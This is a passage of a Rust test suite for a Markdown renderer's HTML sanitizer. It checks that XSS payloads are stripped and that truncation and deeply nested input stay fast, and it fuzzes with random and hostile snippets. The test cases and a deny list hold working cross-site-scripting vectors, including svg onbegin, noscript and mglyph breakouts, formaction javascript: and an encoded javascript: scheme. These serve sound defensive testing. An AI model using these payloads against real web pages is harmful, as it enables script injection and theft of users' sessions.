                &[Lacks("<iframe"), Lacks("<object"), Lacks("<embed")],
            ),
            (
                "<svg><animate onbegin=alert(1) attributeName=href to=javascript:alert(1)>",
                &[Lacks("<svg"), Lacks("javascript")],
            ),
            (
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                &[Lacks("<img"), Lacks("onerror")],
            ),
            (
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                &[Lacks("<img")],
            ),
            (
                "<form><button formaction=javascript:alert(1)>x</button></form>",
                &[Lacks("<form"), Lacks("<button"), Lacks("javascript")],
            ),
            (
                "<meta http-equiv=refresh content=0;url=https://e.example><base href=https://e.example>",
                &[Lacks("<meta"), Lacks("<base")],
            ),
            ("<p><!-- comment --></p>", &[Lacks("comment")]),
        ];
        for (input, expectations) in cases {
            verify(input, &sanitize(input), expectations);
        }
    }

    #[test]
    fn long_input_is_truncated_quickly() {
        let unit = "## Heading\n\nSome **bold** text with `code`, [a link](https://e.example) and <b>html</b>.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n";
        let input = unit.repeat(300_000 / unit.len() + 1);
        assert!(input.len() > 300_000);
        let start = Instant::now();
        let html = render(&input);
        let elapsed = start.elapsed();
        assert!(html.contains("…"), "truncation mark missing");
        assert!(!html.contains("<b>"));
        // Rendering the whole 300 kB would produce about 1.5 times as much
        // as the 200 kB kept; allow generous slack for the HTML overhead.
        assert!(html.len() < 2 * input.len(), "{} bytes out", html.len());
        assert!(elapsed < Duration::from_secs(10), "took {elapsed:?}");

        // The cut lands on a character boundary even mid-character.
        let input = "é".repeat(150_001);
        let capped = cap_input(&input);
        assert!(capped.len() <= MAX_INPUT_BYTES + TRUNCATION_MARK.len());
        assert!(capped.ends_with("é…"));
        assert_eq!(cap_input("short"), "short");
    }

    #[test]
    fn pathological_nesting_is_fast() {
        // Deep nesting made html5ever (inside ammonia) quadratic: 200 kB of
        // `>` took minutes before the nesting limit.
        let inputs = [
            ">".repeat(MAX_INPUT_BYTES),
            "1. ".repeat(MAX_INPUT_BYTES / 3),
            "> - ".repeat(MAX_INPUT_BYTES / 4),
            "*".repeat(MAX_INPUT_BYTES / 2) + "a" + &"*".repeat(MAX_INPUT_BYTES / 2),
            "[".repeat(MAX_INPUT_BYTES),
            "![".repeat(MAX_INPUT_BYTES / 4) + &"](x)".repeat(MAX_INPUT_BYTES / 8),
            "<".repeat(MAX_INPUT_BYTES),
            format!(
                "{}|\n{}|\n{}",
                "|a".repeat(20_000),
                "|-".repeat(20_000),
                "x\n".repeat(20_000)
            ),
        ];
        for input in &inputs {
            let start = Instant::now();
            let html = render(input);
            let elapsed = start.elapsed();
            assert!(elapsed < Duration::from_secs(10), "took {elapsed:?}");
            assert_safe_html("pathological input", &html);
        }
    }

    /// A small deterministic PRNG, so failures reproduce.
    struct XorShift(u64);

    impl XorShift {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }

        fn below(&mut self, n: usize) -> usize {
            // n is a small constant here, so the cast cannot truncate.
            (self.next() % n as u64) as usize
        }
    }

    #[test]
    fn random_input_never_panics_or_escapes() {
        const CHARS: &[char] = &[
            '<', '>', '[', ']', '(', ')', '!', '*', '_', '`', '#', '&', ';', ':', '"', '\'', '=',
            '|', '~', '-', '+', '.', '/', '\\', '%', '{', '}', ' ', ' ', ' ', '\n', '\n', '\t',
            'a', 'b', 'c', 'e', 'i', 'j', 'l', 'm', 'n', 'o', 'p', 'r', 's', 't', 'v', 'x', 'A',
            'S', 'T', '1', '0', 'é', '…', '\u{0}', '\u{200b}',
        ];
        let mut rng = XorShift(0x9E37_79B9_7F4A_7C15);
        for iteration in 0..5_000 {
            let len = rng.below(300);
            let input: String = (0..len).map(|_| CHARS[rng.below(CHARS.len())]).collect();
            let html = render(&input);
            let lower = html.to_ascii_lowercase();
            for bad in [
                "<script",
                "javascript:",
                "<img",
                "<iframe",
                "onerror=",
                "onload=",
            ] {
                assert!(
                    !lower.contains(bad),
                    "iteration {iteration}: {input:?} rendered as {html:?}"
                );
            }
            // Also: only allow-listed tags and attributes, so no `on*=`.
            assert_safe_html(&input, &html);
        }
    }

    #[test]
    fn random_hostile_snippets_stay_inert() {
        // Whole hostile tokens combine into attacks a character fuzzer would
        // rarely build; the text may mention them, but no tag may carry them.
        const PIECES: &[&str] = &[
            "<script>",
            "</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"",
            "javascript:",
            "JaVaScRiPt:",
            "java&#115;cript:",
            "data:text/html,",
            "vbscript:",
            "https://e.example",
            "mailto:a@b",
            "#x",
            "[",
            "]",
            "(",
            ")",
            "![",
            "](",
            "<",
            ">",
            "\"",
            "'",
            " ",
            "\n",
            "\n\n",
            "```",
            "`",
            "**",
            "_",
            "|",
            "|---|",
            "- [x] ",
            "> ",
            "1. ",
            "<iframe>",
            "<svg onload=alert(1)>",
            " onclick=",
            "&lt;",
            "&#60;",
            "\\",
            "<!--",
            "-->",
            "<div>",
            "</div>",
            "title",
            "<https://e.example>",
            "<javascript:alert(1)>",
            "    ",
        ];
        let mut rng = XorShift(0x0123_4567_89AB_CDEF);
        for _ in 0..2_000 {
            let count = rng.below(40);
            let input: String = (0..count)
                .map(|_| PIECES[rng.below(PIECES.len())])
                .collect();
            assert_safe_html(&input, &render(&input));
        }
    }
}
